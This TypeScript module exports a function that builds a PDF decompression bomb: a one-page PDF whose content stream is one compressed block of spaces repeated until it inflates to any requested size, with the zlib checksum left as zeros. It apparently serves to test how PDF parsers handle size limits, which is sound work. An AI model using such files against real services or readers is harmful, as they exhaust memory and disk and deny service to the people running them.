import { constants, deflateRawSync } from "node:zlib";

/**
 * A PDF of one page whose text unpacks to so many bytes of spaces: one packed piece, again and again,
 * so that it is made at once.
 */
export function pdfBomb(bytes: number): Buffer {
  const piece = 10_000_000;
  const packed = deflateRawSync(Buffer.alloc(piece, 0x20), {
    finishFlush: constants.Z_FULL_FLUSH,
    level: 9,
  });
  const times = Math.ceil(bytes / piece);
  // A header of zlib before the pieces, an empty last block and a checksum that no reader looks at behind.
  const end = Buffer.from([0x03, 0x00, 0, 0, 0, 0]);
  const stream = Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: times }, () => packed),
    end,
  ]);
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
  ].map((text, i) => `${i + 1} 0 obj\n${text}\nendobj\n`);
  const dictionary = `<< /Length ${stream.length} /Filter /FlateDecode >>`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.4\n${objects.join("")}4 0 obj\n${dictionary}\nstream\n`),
    stream,
    Buffer.from("\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF"),
  ]);
}
